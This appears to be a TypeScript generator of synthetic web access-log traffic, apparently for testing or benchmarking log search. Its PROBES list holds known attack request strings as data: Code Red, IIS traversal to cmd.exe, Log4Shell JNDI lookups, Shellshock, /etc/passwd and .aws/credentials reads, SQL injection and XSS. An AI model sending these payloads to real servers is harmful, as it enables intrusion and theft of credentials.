import { createRandom, createZipf, type Random } from './random.ts'

/** One request, before any log format. */
export interface Request {
  source: string
  time: number
  user: string
  method: string
  target: string
  protocol: string
  status: number
  bytes: number
  referrer: string
  agent: string
}

export interface TrafficOptions {
  /** Share of probes, 0 to 1. */
  probes: number
  /** Distinct ordinary sources; over a million they come one after another instead of by weight. */
  sources: number
  /** Lines made to keep the literal search busy: nearly literals, many literals, unique targets, long lines. */
  hostile: boolean
  /** Text pieces for hostile lines. */
  literals: readonly string[]
  seed: number
}

/** An endless stream of requests of one made-up site. */
export function createTraffic(options: TrafficOptions): () => Request {
  const random = createRandom(options.seed)
  const agents = agentList(random)
  const paths = pathList(random)
  const agent = createZipf(random, agents.length, 0.8)
  const path = createZipf(random, paths.length, 0.9)
  const few = Math.min(options.sources, 1_000_000)
  const addresses = Array.from({ length: options.sources > few ? 0 : few }, () => addressOf(random))
  const source = addresses.length > 0 ? createZipf(random, addresses.length, 0.95) : null
  const scanners = Array.from({ length: 4000 }, () => addressOf(random))
  let time = Date.UTC(2026, 9, 1) / 1000
  let number = 0

  function nextSource(): string {
    if (source !== null) return addresses[source()] as string
    // All of a big address space once, in an order without runs.
    const n = Math.imul(number++, 0x9e3779b1) >>> 0
    return `${1 + ((n >>> 24) % 223)}.${(n >>> 16) & 255}.${(n >>> 8) & 255}.${n & 255}`
  }

  function query(): string {
    const kind = random.unit()
    if (kind < 0.72) return ''
    if (kind < 0.82) return `?page=${random.below(50)}`
    if (kind < 0.88)
      return `?q=${random.pick(WORDS)}+${random.pick(WORDS)}&sort=${random.pick(['asc', 'desc', 'price'])}`
    if (kind < 0.92)
      return `?utm_source=${random.pick(['newsletter', 'google'])}&utm_medium=email&utm_campaign=${random.pick(WORDS)}_${random.below(100)}`
    if (kind < 0.94) return `?name=${random.pick(WORDS)}%20${random.pick(WORDS)}&back=%2F${random.pick(WORDS)}`
    if (kind < 0.98) return `?id=${random.below(1_000_000)}&token=${random.hex(24)}`
    return `?v=${random.below(10)}.${random.below(10)}.${random.below(10)}`
  }

  function referrer(): string {
    const kind = random.unit()
    if (kind < 0.42) return '-'
    if (kind < 0.75) return random.pick(SITES) + paths[path()]
    if (kind < 0.9)
      return random.pick([
        'https://www.google.com/',
        'https://www.bing.com/',
        'https://duckduckgo.com/',
        `https://t.co/${random.hex(10)}`,
      ])
    return `${SITES[0]}${paths[path()]}${query()}`
  }

  function probe(): Request {
    const [method, target, by] = random.pick(PROBES)(random)
    return {
      source: random.pick(scanners),
      time,
      user: '-',
      method,
      target,
      protocol: 'HTTP/1.1',
      status: random.pick([404, 404, 404, 403, 400, 200]),
      bytes: 100 + random.below(600),
      referrer: '-',
      agent: by ?? (random.unit() < 0.5 ? (agents[agent()] as string) : '-'),
    }
  }

  function ordinary(): Request {
    const kind = random.unit()
    const status = kind < 0.85 ? 200 : kind < 0.92 ? 304 : kind < 0.96 ? 301 : kind < 0.99 ? 404 : 500
    return {
      source: nextSource(),
      time,
      user: random.unit() < 0.02 ? random.pick(WORDS) : '-',
      method: random.unit() < 0.93 ? 'GET' : random.pick(['POST', 'HEAD', 'PUT', 'OPTIONS']),
      target: `${paths[path()]}${query()}`,
      protocol: random.unit() < 0.6 ? 'HTTP/2.0' : 'HTTP/1.1',
      status,
      bytes: status === 304 ? 0 : random.below(random.unit() < 0.7 ? 20_000 : 400_000),
      referrer: referrer(),
      agent: agents[agent()] as string,
    }
  }

  function hostile(): Request {
    const size = random.unit() < 0.002 ? 50_000 : 100 + random.below(1500)
    let target = `/${random.hex(6)}`
    while (target.length < size) target += hostilePiece(random, options.literals)
    return { ...ordinary(), source: random.pick(scanners), target, status: random.pick([200, 404]) }
  }

  return () => {
    if (random.unit() < 1 / 90) time++
    if (options.hostile) return hostile()
    return random.unit() < options.probes ? probe() : ordinary()
  }
}

/** Seven of eight pieces are almost a literal, the rest is one; many encoded, some with slashes to squash. */
function hostilePiece(random: Random, literals: readonly string[]): string {
  const literal = random.pick(literals)
  const kind = random.below(8)
  if (kind === 0) return literal.replace(/[ "\\]/g, '')
  const at = random.below(Math.max(1, literal.length - 7))
  const piece = literal.slice(at, at + 7).replace(/[ "\\]/g, '')
  if (kind === 1) return `%${piece.charCodeAt(0).toString(16)}${piece.slice(1)}`
  if (kind === 2) return `//${piece}`
  return piece
}

function addressOf(random: Random): string {
  if (random.unit() < 0.08)
    return `2${random.hex(3)}:${random.hex(4)}:${random.hex(3)}::${random.hex(4)}:${random.hex(2)}`
  return `${1 + random.below(222)}.${random.below(256)}.${random.below(256)}.${random.below(256)}`
}

function agentList(random: Random): string[] {
  const list: string[] = []
  const webkit = 'AppleWebKit/537.36 (KHTML, like Gecko)'
  for (let version = 90; version < 140; version++) {
    for (const system of SYSTEMS) list.push(`Mozilla/5.0 (${system}) ${webkit} Chrome/${version}.0.0.0 Safari/537.36`)
    list.push(`Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`)
    list.push(`Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`)
  }
  for (let version = 13; version < 19; version++) {
    const apple = 'AppleWebKit/605.1.15 (KHTML, like Gecko)'
    list.push(
      `Mozilla/5.0 (iPhone; CPU iPhone OS ${version}_1 like Mac OS X) ${apple} Version/${version}.1 Mobile/15E148 Safari/604.1`,
    )
    list.push(`Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${apple} Version/${version}.1 Safari/605.1.15`)
  }
  for (let i = 0; i < 6; i++) list.push(...BOTS)
  return shuffled(random, list)
}

function pathList(random: Random): string[] {
  const list = [
    '/',
    '/favicon.ico',
    '/robots.txt',
    '/wp-content/themes/plain/style.css',
    '/wp-includes/js/jquery/jquery.min.js',
  ]
  while (list.length < 60_000) {
    const kind = random.unit()
    const two = `${random.pick(WORDS)}-${random.pick(WORDS)}`
    if (kind < 0.25) list.push(`/assets/${random.pick(WORDS)}.${random.hex(8)}${random.pick(['.js', '.css', '.png'])}`)
    else if (kind < 0.35)
      list.push(
        `/wp-content/uploads/20${10 + random.below(15)}/0${1 + random.below(9)}/${two}-${random.below(2000)}x${random.below(1200)}.jpg`,
      )
    else if (kind < 0.5) list.push(`/api/v${1 + random.below(3)}/${random.pick(WORDS)}/${random.below(100_000)}`)
    else
      list.push(
        `/${random.pick(WORDS)}/${two}${random.unit() < 0.5 ? `/${random.pick(WORDS)}` : ''}${random.pick(ENDINGS)}`,
      )
  }
  return list
}

function shuffled<T>(random: Random, list: T[]): T[] {
  for (let i = list.length - 1; i > 0; i--) {
    const j = random.below(i + 1)
    ;[list[i], list[j]] = [list[j] as T, list[i] as T]
  }
  return list
}

const SITES = ['https://www.example.com', 'https://shop.example.com']
const SYSTEMS = [
  'Windows NT 10.0; Win64; x64',
  'Macintosh; Intel Mac OS X 10_15_7',
  'X11; Linux x86_64',
  'Linux; Android 10; K',
  'Linux; Android 14; Pixel 8',
]
const ENDINGS = ['.html', '.css', '.js', '.png', '.svg', '', '', '', '/', '.php', '.json', '.webp']
const BOTS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'curl/7.88.1',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  '-',
]
const WORDS =
  'about account archive article assets blog cart catalog category checkout cloud community compare contact data deals delivery design details docs download events faq feed forum gallery guide help history home index info item jobs legal list login mail market media music news offers office online order partners photo play portal pricing product profile project release report research review sale search service shop sitemap sport start status store story style support tag team terms theme topic tour travel update user video view web wiki winter world year zone'.split(
    ' ',
  )

type Probe = (random: Random) => [method: string, target: string, agent?: string]
const get =
  (target: string, agent?: string): Probe =>
  () =>
    agent === undefined ? ['GET', target] : ['GET', target, agent]
const PROBES: Probe[] = [
  get(`/default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801`),
  get(`/default.ida?${'X'.repeat(224)}%u9090%u6858%ucbd3%u7801`),
  get('/scripts/root.exe?/c+dir'),
  get('/MSADC/root.exe?/c+dir'),
  get('/scripts/..%255c../winnt/system32/cmd.exe?/c+dir'),
  get('/', '${jndi:ldap://scanner.invalid/a}'),
  get('/?x=${jndi:dns://scanner.invalid}'),
  get('/cgi-bin/test-cgi', '() { :;}; echo probe'),
  get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'),
  get('/icons/.%%32%65/.%%32%65/etc/passwd'),
  get('/.env'),
  get('/.git/config'),
  get('/.aws/credentials'),
  () => ['POST', '/wp-login.php'],
  () => ['POST', '/xmlrpc.php'],
  get('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php'),
  (random) => [
    'GET',
    random.pick(['/phpmyadmin/index.php', '/phpMyAdmin/scripts/setup.php', '/pma/index.php', '/mysql/admin/']),
  ],
  () => ['POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
  get('/solr/admin/info/system?wt=json'),
  get('/actuator/env'),
  get('/manager/html'),
  get('/HNAP1/'),
  () => ['POST', '/GponForm/diag_Form?images/'],
  get('/w00tw00t.at.ISC.SANS.DFind:)'),
  get('/boaform/admin/formLogin?username=ec8&psd=ec8'),
  (random) => ['GET', `/product?id=${random.below(999)}+UNION+SELECT+null`],
  get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E'),
  get('/../../../../etc/passwd'),
  get('/', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'),
  get('/', 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
  get('/remote/fgt_lang?lang=/../../../..//////////dev/'),
  get('/owa/auth/x.js'),
  get('/cgi-bin/luci/;stok=/locale?form=country&operation=write'),
  get('/', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'),
  get('/', 'Mozilla/5.0 zgrab/0.x'),
]
